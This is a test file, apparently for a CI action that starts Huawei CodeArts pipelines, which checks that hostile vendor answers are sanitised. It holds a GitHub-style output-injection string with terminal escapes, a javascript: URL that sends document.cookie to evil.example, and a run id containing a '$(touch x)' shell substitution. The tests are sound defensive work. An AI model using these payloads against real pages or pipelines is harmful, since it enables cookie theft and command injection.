import { run } from '../src/main.js'
import { OUTPUT_TEXT_MAX } from '../src/core/vendor-text.js'
import type { InputName } from '../src/inputs/index.js'
import { PIPELINE, PROJECT, RUN, codeArtsInputs, detail } from './fixtures/codearts.js'
import { FakeClock } from './fixtures/fake-clock.js'
import { FakeHost } from './fixtures/fake-host.js'
import { FakeTransport, json } from './fixtures/fake-transport.js'

/** What a step's outputs become from hostile vendor answers (DESIGN.md, "Vendor text is untrusted"). */

function setup(inputs: Partial<Record<InputName, string>> = {}) {
  const host = new FakeHost(codeArtsInputs(inputs))
  const transport = new FakeTransport()
  const go = () => run({ host, transport: transport.send, clock: new FakeClock(), signal: new AbortController().signal })
  return { host, transport, go }
}

const CONSOLE_PAGE = `https://devcloud.cn-north-4.huaweicloud.com/cicd/project/${PROJECT}/pipeline/detail/${PIPELINE}/${RUN}?v=1`

describe('outputs from vendor answers', () => {
  test('raw_status with line breaks, escapes and 300 characters becomes one clean line of at most 256', async () => {
    const { host, transport, go } = setup({ wait: 'false' })
    const rawStatus = `RUNNING\n::set-output name=token::stolen\r\n\u001b[2J\u001b]0;pwned\u0007${'x'.repeat(300)}`
    transport.on('POST /run', json(200, { pipeline_run_id: RUN })).on('GET /detail', json(200, detail(rawStatus)))
    await go()
    const output = host.outputs.raw_status ?? ''
    expect(output).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/)
    expect(output.length).toBeLessThanOrEqual(OUTPUT_TEXT_MAX)
    expect(output.startsWith('RUNNING ::set-output name=token::stolen xxx')).toBe(true)
  })

  test('a javascript: detail_url never becomes run_url', async () => {
    const { host, transport, go } = setup({ wait: 'false' })
    transport.on('POST /run', json(200, { pipeline_run_id: RUN })).on('GET /detail', json(200, detail('RUNNING', { detail_url: 'javascript:fetch("//evil.example/"+document.cookie)' })))
    await go()
    expect(host.outputs.run_url).toBe(CONSOLE_PAGE)
  })

  test('a start answered with a shell command as its run id: no run_id output, one start, and the step fails as ambiguous', async () => {
    const { host, transport, go } = setup()
    transport.on('POST /run', json(200, { pipeline_run_id: 'c0ffee$(touch x)' }))
    transport.always('POST /pipeline-runs/list', json(200, { pipeline_runs: [] }))
    await go()
    expect(transport.count('POST /run')).toBe(1)
    expect(host.outputs.run_id).toBeUndefined()
    expect(host.state.run_id).toBeUndefined()
    expect(host.failure).toMatch(/^The start request failed \(CodeArts answered with a pipeline_run_id in the start answer that is not a CodeArts run id \(32 letters and digits\): "c0ffee\$\(touch x\)"\) after it may have reached/)
  })
})
